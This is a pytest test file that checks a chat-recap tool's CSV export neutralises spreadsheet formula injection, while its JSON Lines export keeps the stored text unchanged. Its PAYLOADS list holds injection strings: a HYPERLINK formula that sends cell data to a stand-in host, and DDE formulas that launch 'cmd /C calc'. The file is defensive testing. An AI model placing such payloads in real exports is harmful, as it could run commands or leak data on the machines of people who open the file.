"""Issue #11 item 11: `balafon export --format csv` must not hand a spreadsheet formulas.

Chat text, display names and LLM output end up in recap summaries, decisions, action-item
tasks and owner names; a cell that starts with `=`, `+`, `-`, `@`, tab or CR is run as a
formula by Excel / LibreOffice / Sheets when the export is opened. The real command, as an
operator runs it, must prefix such cells with `'` and leave JSON Lines as stored.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.storage.db import create_db_engine
from bot.storage.repo import Repository
from summarizer.types import ActionItem, Decision, Recap
from tests.db import migrated_sqlite

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(db: Path, kind: str, fmt: str) -> str:
    env = {**os.environ, "DATABASE_URL": f"sqlite:///{db}"}
    out = db.parent / f"{kind}.{fmt}"
    result = subprocess.run(
        [sys.executable, "-m", "bot", "export", kind, "--format", fmt, "-o", str(out)],
        capture_output=True,
        text=True,
        cwd=db.parent,
        env=env,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as file:  # a CR inside a cell stays a CR
        return file.read()


@pytest.fixture
def database(tmp_path: Path) -> Path:
    db = tmp_path / "balafon.db"
    engine = create_db_engine(migrated_sqlite(db))
    repo = Repository(engine)
    channel = repo.get_or_create_channel(repo.get_or_create_workspace("slack", "T1").id, "C1")
    for payload in PAYLOADS:
        recap = Recap(
            summary=payload,
            decisions=[Decision(text=payload)],
            action_items=[ActionItem(task=payload, owner=payload, owner_id="U1", ref=payload)],
        )
        repo.save_recap(channel, recap)
    repo.save_recap(channel, Recap(summary="Plain summary", action_items=[ActionItem(task="Ok")]))
    engine.dispose()
    return db


def test_csv_cells_that_start_like_formulas_are_neutralised(database: Path) -> None:
    recaps = list(csv.DictReader(io.StringIO(_export(database, "recaps", "csv"), newline="")))
    items = list(csv.DictReader(io.StringIO(_export(database, "action-items", "csv"), newline="")))
    assert len(recaps) == len(PAYLOADS) + 1 and len(items) == len(PAYLOADS) + 1
    for payload, recap, item in zip(PAYLOADS, recaps, items, strict=False):
        assert recap["summary"] == "'" + payload
        assert recap["decisions"] == "'" + payload
        for field in ("task", "owner_name", "source_ref"):
            assert item[field] == "'" + payload
    # Ordinary text is untouched, and so are numbers (a count is never user text).
    assert recaps[-1]["summary"] == "Plain summary" and items[-1]["task"] == "Ok"
    assert recaps[-1]["action_items"] == "1"
    for row in recaps + items:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_jsonl_keeps_the_stored_text(database: Path) -> None:
    lines = _export(database, "action-items", "jsonl").splitlines()
    tasks = [json.loads(line)["task"] for line in lines]
    assert tasks == [*PAYLOADS, "Ok"]
